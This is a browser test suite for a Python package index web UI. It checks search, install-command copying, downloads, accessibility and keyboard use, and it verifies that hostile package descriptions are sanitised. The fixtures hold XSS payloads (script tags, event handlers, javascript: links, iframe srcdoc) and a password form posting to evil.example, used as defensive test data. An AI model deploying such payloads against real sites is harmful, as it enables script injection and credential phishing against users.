"""The web UI in a real headless Chromium against a real server: a person's journey (home,
search, project, version, copy the install command, download a file), JavaScript off,
phone width, dark scheme, axe-core on every page kind, and hostile descriptions that must
run no script. One browser for the module; screenshots are kept (see ``support.browser``).
"""

from __future__ import annotations

import hashlib
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from selenium.common.exceptions import TimeoutException
from selenium.webdriver.chrome.webdriver import WebDriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.ui import WebDriverWait
from support.browser import (
    DESKTOP,
    PHONE,
    artifacts_dir,
    axe_cache,
    axe_script,
    serious_violations,
    set_dark,
    set_javascript,
    set_width,
    start_browser,
)
from support.fakedist import make_sdist, make_wheel
from support.server import DynoServer, ServerFactory

README = """# Shiny

A **shiny** library. See [the docs](https://docs.example/shiny).

| option | meaning |
|--------|---------|
| `fast` | go fast |
"""
# every trick a description may try; window.pwned set means one of them ran
HOSTILE = (
    """# Hostile

<script>window.pwned = "script"</script>

<img src="x" onerror="window.pwned = 'onerror'">

<svg onload="window.pwned = 'svg'"></svg>

[click me](javascript:window.pwned='link')

<a href="javascript:window.pwned='a'" id="evil-link">evil link</a>

<iframe srcdoc="<script>parent.pwned='iframe'</script>"></iframe>

<style>body { display: none }</style>

<div style="position:fixed;inset:0;background:red">cover</div>

<form action="https://evil.example/"><input name="password"></form>

| a | b |
|---|---|
"""
    + "| cell | cell |\n" * 2_000
)


@pytest.fixture(scope="module")
def site(
    module_server_factory: ServerFactory, tmp_path_factory: pytest.TempPathFactory
) -> DynoServer:
    root = tmp_path_factory.mktemp("browser-pkgs")
    make_wheel(
        root, "Shiny_Thing", "1.0",
        headers=["Description-Content-Type: text/markdown",
                 "Project-URL: Source, https://example.com/shiny",
                 "Classifier: Programming Language :: Python :: 3"],
        description=README, requires=["requests>=2"], requires_python=">=3.9",
    )  # fmt: skip
    make_sdist(root, "Shiny_Thing", "1.0")
    make_wheel(root, "Shiny_Thing", "0.9")
    make_wheel(
        root,
        "hostile",
        "6.6.6",
        headers=["Description-Content-Type: text/markdown"],
        description=HOSTILE,
    )
    make_wheel(root, "hostile-rst", "1.0",
               description=".. raw:: html\n\n   <script>window.pwned = 'rst'</script>\n\n"
               "`x <javascript:window.pwned='rst-link'>`_\n")  # fmt: skip
    make_sdist(root, "other-project", "0.1")
    return module_server_factory(root)


@pytest.fixture(scope="module")
def downloads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("downloads")


@pytest.fixture(scope="module")
def browser(downloads: Path) -> Iterator[WebDriver]:
    driver = start_browser(downloads)
    yield driver
    driver.quit()


@pytest.fixture(scope="module")
def shots(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return artifacts_dir(tmp_path_factory)


@pytest.fixture(scope="module")
def axe() -> str:
    return axe_script(axe_cache())


@pytest.fixture(autouse=True)
def fresh_state(browser: WebDriver) -> None:
    set_javascript(browser, True)
    set_dark(browser, False)
    set_width(browser, DESKTOP)


def open_page(browser: WebDriver, site: DynoServer, path: str) -> None:
    browser.get(site.base + path)
    assert browser.execute_script("return document.readyState") == "complete"


def wait_for_url(browser: WebDriver, part: str) -> None:
    """Wait until the browser is on a URL containing ``part``.

    A key press or a click starts a navigation that WebDriver does not always wait for: the
    next look at ``current_url`` or the page can still see the page before it.
    """
    try:
        WebDriverWait(browser, 10).until(lambda driver: part in driver.current_url)
    except TimeoutException:
        raise AssertionError(f"{part!r} not in {browser.current_url!r} after 10 s") from None
    WebDriverWait(browser, 10).until(
        lambda driver: driver.execute_script("return document.readyState") == "complete"
    )


def text(browser: WebDriver) -> str:
    return str(browser.find_element(By.TAG_NAME, "main").text)


def test_a_person_finds_installs_and_downloads(
    browser: WebDriver, site: DynoServer, downloads: Path
) -> None:
    open_page(browser, site, "/")
    assert "Recently uploaded" in text(browser)
    box = browser.find_element(By.ID, "q")
    box.send_keys("shiny thing", Keys.ENTER)
    wait_for_url(browser, "/search?q=shiny+thing")
    browser.find_element(By.LINK_TEXT, "Shiny_Thing").click()
    wait_for_url(browser, "/project/shiny-thing/")
    assert browser.current_url == site.base + "/project/shiny-thing/"
    assert "A shiny library." in text(browser) and browser.title.startswith("Shiny_Thing")

    # copy the install command: the script shows the button and copies the <pre>'s text
    browser.execute_script(
        "navigator.clipboard.writeText = t => { window.__copied = t; return Promise.resolve(); }"
    )
    button = browser.find_element(By.CSS_SELECTOR, "button[data-copy='pip']")
    assert button.is_displayed()
    button.click()
    copied = browser.execute_script("return window.__copied")
    assert copied == f"pip install --index-url {site.base}/simple/ Shiny_Thing", copied
    assert button.text == "Copied"

    # an older version, then one of its files, which the browser downloads
    browser.find_element(By.LINK_TEXT, "0.9").click()
    wait_for_url(browser, "/project/shiny-thing/0.9/")
    assert browser.current_url == site.base + "/project/shiny-thing/0.9/"
    link = browser.find_element(By.PARTIAL_LINK_TEXT, ".whl")
    filename = link.text
    row = link.find_element(By.XPATH, "./ancestor::tr")
    shown_sha256 = row.find_element(By.CSS_SELECTOR, "td.hash").text
    link.click()
    target = downloads / filename
    deadline = time.monotonic() + 30
    while not target.exists() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert target.exists(), list(downloads.iterdir())
    assert hashlib.sha256(target.read_bytes()).hexdigest() == shown_sha256
    assert browser.execute_script("return window.__cspViolations") == []


def test_everything_works_with_javascript_off(browser: WebDriver, site: DynoServer) -> None:
    set_javascript(browser, False)
    open_page(browser, site, "/")
    browser.find_element(By.ID, "q").send_keys("shiny", Keys.ENTER)
    wait_for_url(browser, "/search?q=shiny")
    browser.find_element(By.LINK_TEXT, "Shiny_Thing").click()
    wait_for_url(browser, "/project/shiny-thing/")
    pre = browser.find_element(By.ID, "pip")
    assert pre.is_displayed() and "pip install" in pre.text
    button = browser.find_element(By.CSS_SELECTOR, "button[data-copy='pip']")
    assert not button.is_displayed()  # nothing that needs the script is shown without it
    browser.find_element(By.LINK_TEXT, "0.9").click()
    wait_for_url(browser, "/project/shiny-thing/0.9/")


PAGES = {
    "home": "/",
    "search": "/search?q=shiny",
    "search-empty": "/search?q=nothing-matches-this",
    "project": "/project/shiny-thing/",
    "version": "/project/shiny-thing/0.9/",
    "hostile": "/project/hostile/",
}


@pytest.mark.parametrize("kind", sorted(PAGES))
def test_pages_are_accessible_in_both_schemes_and_at_phone_width(
    browser: WebDriver, site: DynoServer, axe: str, shots: Path, kind: str
) -> None:
    for dark in (False, True):
        set_dark(browser, dark)
        for label, size in (("desktop", DESKTOP), ("phone", PHONE)):
            set_width(browser, size)
            open_page(browser, site, PAGES[kind])
            scheme = "dark" if dark else "light"
            browser.save_screenshot(str(shots / f"{kind}-{label}-{scheme}.png"))
            problems = serious_violations(browser, axe)
            assert problems == [], f"{kind} {label} {scheme}: " + "\n".join(problems)
            overflow = browser.execute_script(
                "return document.documentElement.scrollWidth - window.innerWidth"
            )
            assert overflow <= 0, f"{kind} scrolls sideways by {overflow}px at {label} width"


def test_keyboard_reaches_the_search_box_and_the_skip_link(
    browser: WebDriver, site: DynoServer
) -> None:
    open_page(browser, site, "/project/shiny-thing/")
    body = browser.find_element(By.TAG_NAME, "body")
    body.send_keys(Keys.TAB)
    focused = browser.switch_to.active_element
    assert focused.text == "Skip to content" and focused.is_displayed()
    for _ in range(2):  # the site's name, then the search box
        browser.switch_to.active_element.send_keys(Keys.TAB)
    assert browser.switch_to.active_element.get_attribute("id") == "q"
    browser.switch_to.active_element.send_keys("hostile", Keys.ENTER)
    wait_for_url(browser, "/search?q=hostile")


@pytest.mark.parametrize("path", ["/project/hostile/", "/project/hostile-rst/"])
def test_hostile_descriptions_run_no_script(
    browser: WebDriver, site: DynoServer, path: str
) -> None:
    open_page(browser, site, path)
    # the hook ran and our own script ran (it shows the copy buttons): scripts are on
    assert browser.execute_script("return Array.isArray(window.__cspViolations)")
    assert browser.find_element(By.CSS_SELECTOR, "button.copy").is_displayed()
    for link in browser.find_elements(By.CSS_SELECTOR, "main a"):
        href = link.get_attribute("href") or ""
        assert not href.lower().startswith("javascript:"), href
        link_text = link.text
        if link_text in ("click me", "evil link", "x"):
            link.click()  # a link stripped of its href goes nowhere
    assert browser.execute_script("return window.pwned === undefined"), browser.execute_script(
        "return window.pwned"
    )
    assert browser.find_elements(By.TAG_NAME, "iframe") == []
    assert browser.find_elements(By.CSS_SELECTOR, "main form") == []
    assert browser.find_element(By.TAG_NAME, "h1").is_displayed()  # no CSS hid the page
